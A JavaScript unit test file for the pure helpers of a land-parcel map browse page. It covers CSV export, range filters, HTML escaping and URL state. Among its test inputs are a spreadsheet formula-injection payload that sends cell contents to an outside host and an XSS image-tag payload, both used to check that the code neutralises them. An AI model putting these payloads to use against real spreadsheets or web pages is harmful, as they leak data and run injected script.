// Unit tests of the browse page's pure helpers (landkit/maps/assets/js/pure.js), loaded alone
// in a fresh V8 context: no DOM, no Leaflet. Run: node --test tests/js/ (tests/test_maps_js.py does).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { runInNewContext } from 'node:vm';

const SRC = readFileSync(new URL('../../landkit/maps/assets/js/pure.js', import.meta.url), 'utf8');
// Objects made in the other context have its prototypes: compare them as plain JSON.
const plain = (v) => JSON.parse(JSON.stringify(v));
const P = runInNewContext(SRC + '\n;({ num, rangeOf, inRange, csvCell, csvText, escapeHtml, emptyState,'
  + ' stateToHash, hashToState, makePredicate, distinct });');

// An independent CSV reader (RFC 4180) to check that what csvCell writes reads back.
function parseCsv(text) {
  const rows = [[]];
  let cell = '', quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; }
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { rows.at(-1).push(cell); cell = ''; }
    else if (c === '\r' && text[i + 1] === '\n') { rows.at(-1).push(cell); cell = ''; rows.push([]); i++; }
    else cell += c;
  }
  if (cell !== '' || rows.at(-1).length) rows.at(-1).push(cell);
  if (rows.at(-1).length === 0) rows.pop();
  return rows;
}

test('csv: formulas are inert, quotes and line breaks survive a round trip', () => {
  const values = ['=HYPERLINK("http://x?"&A1)', '+1', '-2', '@SUM(A1)', 'a,b', 'say "hi"', 'line1\nline2', '洪江市'];
  const text = P.csvText([values]);
  assert.ok(text.startsWith('\ufeff'));
  const back = parseCsv(text.slice(1))[0];
  assert.equal(back.length, values.length);
  values.forEach((v, i) => {
    if (/^[=+\-@]/.test(v)) assert.equal(back[i], "'" + v);
    else assert.equal(back[i], v);
  });
});

test('csv: codes keep their leading zero and long digit strings their digits in Excel', () => {
  assert.equal(P.csvCell('0701'), '"=""0701"""');
  assert.equal(parseCsv(P.csvCell('0701'))[0][0], '="0701"');
  assert.equal(P.csvCell('4312811030020000000012'), '"=""4312811030020000000012"""');
  assert.equal(P.csvCell('1201'), '1201');  // an ordinary number stays a number
  assert.equal(P.csvCell('0'), '0');
  assert.equal(P.csvCell('431281003002GB00017'), '431281003002GB00017');
  assert.equal(P.csvCell(null), '');
});

test('ranges: numbers, bad text and min > max are told apart', () => {
  assert.deepEqual([P.num('12.5'), P.num(' 3 '), P.num('')].map(String), ['12.5', '3', 'NaN']);
  assert.ok(Number.isNaN(P.num('-1')) && Number.isNaN(P.num('10abc')));
  assert.equal(P.rangeOf(['5', '30']).problem, '');
  assert.equal(P.rangeOf(['30', '5']).problem, 'order');
  assert.equal(P.rangeOf(['abc', '']).problem, 'nan');
  assert.equal(P.rangeOf(['-3', '']).problem, 'nan');
  const r = P.rangeOf(['5', '30']);
  assert.deepEqual([4.99, 5, 17, 30, 30.01, NaN].map((v) => P.inRange(v, r)), [false, true, true, true, false, false]);
  // A flagged range filters nothing: the recipient sees the parcels and the warning.
  assert.equal(P.inRange(1, P.rangeOf(['30', '5'])), true);
});

test('escapeHtml leaves nothing an HTML parser would read as markup', () => {
  assert.equal(P.escapeHtml('<img src=x onerror="a(1)">&\''), '&lt;img src=x onerror=&quot;a(1)&quot;&gt;&amp;&#39;');
});

test('URL state round trip, with the opening state left out of the link', () => {
  const defaults = P.emptyState();
  defaults.os = ['for_sale', 'listed'];
  const s = P.emptyState();
  Object.assign(s, {
    q: '安江 工业', cat: ['idle'], z: ['qc', 'a,b'], use: ['工业用地', '仓储用地'], town: '黔城镇',
    a: ['5', '30'], p: ['', '900'], sort: 'area_desc', fav: true, favKeys: ['431281GB1', 'x&y=z'],
    os: ['for_sale', 'listed'], demand: 'D 07&x',
  });
  const h = P.stateToHash(s, defaults, '431281GB1');
  assert.ok(!h.includes('os='));  // same as the opening state
  const back = P.hashToState('#' + h, defaults);
  assert.equal(back.sel, '431281GB1');
  assert.deepEqual(plain(back.state), plain(s));
  s.os = [];
  const all = P.hashToState(P.stateToHash(s, defaults, null), defaults);
  assert.deepEqual(plain(all.state.os), []);
  assert.equal(all.sel, null);
  // An old link (cat=idle,reserve, fav=1) still reads; junk is ignored, not thrown.
  const old = P.hashToState('cat=idle,reserve&fav=1&bogus=1&q=%E0%A4%A', defaults);
  assert.deepEqual(plain(old.state.cat), ['idle', 'reserve']);
  assert.equal(old.state.fav, true);
  assert.equal(old.state.q, '');
});

test('filter predicate agrees with a plain re-implementation', () => {
  const n = 500;
  let seed = 7;
  const rnd = () => ((seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648);
  const towns = ['黔城镇', '安江镇', '托口镇'], uses = ['工业用地', '仓储用地', '居住用地'];
  const ctx = {
    cat: [], catKeys: ['idle', 'low_efficiency', 'stalled', 'mortgaged', 'reserve'], st: null, os: [], use: [], town: [],
    zonesOf: [], zoneIds: ['z0', 'z1', 'z2'], area: [], price: [], unit: [], keys: [], favSet: { k3: true },
    searchText: [],
  };
  for (let k = 0; k < n; k++) {
    ctx.cat.push(Math.floor(rnd() * 32));
    ctx.os.push(['for_sale', 'listed', 'not_listed'][Math.floor(rnd() * 3)]);
    ctx.use.push(uses[Math.floor(rnd() * 3)]);
    ctx.town.push(towns[Math.floor(rnd() * 3)]);
    ctx.zonesOf.push([0, 1, 2].filter(() => rnd() < 0.4));
    ctx.area.push(rnd() * 60);
    ctx.price.push(rnd() < 0.3 ? null : Math.round(rnd() * 3000));
    ctx.unit.push(ctx.price[k] === null ? NaN : ctx.price[k] / ctx.area[k]);
    ctx.keys.push('k' + k);
    ctx.searchText.push((ctx.town[k] + ' 地块' + k).toLowerCase());
  }
  const s = P.emptyState();
  Object.assign(s, { cat: ['idle', 'reserve'], os: ['for_sale', 'listed'], use: ['工业用地'], z: ['z1'],
    a: ['10', '50'], p: ['100', ''], q: '安江' });
  const keep = P.makePredicate(ctx, s);
  const got = [], want = [];
  for (let k = 0; k < n; k++) {
    if (keep(k)) got.push(k);
    const ok = (ctx.cat[k] & (1 | 16)) !== 0 && ctx.os[k] !== 'not_listed' && ctx.use[k] === '工业用地'
      && ctx.zonesOf[k].includes(1) && ctx.area[k] >= 10 && ctx.area[k] <= 50
      && ctx.price[k] !== null && ctx.price[k] >= 100 && ctx.town[k] === '安江镇';
    if (ok) want.push(k);
  }
  assert.ok(want.length > 0);
  assert.deepEqual(got, want);
  // Favourites: mine or those a shared link carries.
  const fav = P.emptyState();
  fav.fav = true;
  fav.favKeys = ['k7', 'k9'];
  const keepFav = P.makePredicate(ctx, fav);
  assert.deepEqual([...Array(n).keys()].filter(keepFav), [3, 7, 9]);
  // A push list (?demand=ID): only its keys; an unknown demand shows nothing rather than everything.
  const push = P.emptyState();
  push.demand = 'D1';
  const withLists = Object.assign({}, ctx, { demands: { D1: { k3: true, k11: true } } });
  assert.deepEqual([...Array(n).keys()].filter(P.makePredicate(withLists, push)), [3, 11]);
  push.demand = 'D9';
  assert.equal([...Array(n).keys()].filter(P.makePredicate(withLists, push)).length, 0);
  // An invalid range is flagged, not applied.
  const bad = P.emptyState();
  bad.a = ['50', '10'];
  assert.equal([...Array(n).keys()].filter(P.makePredicate(ctx, bad)).length, n);
});
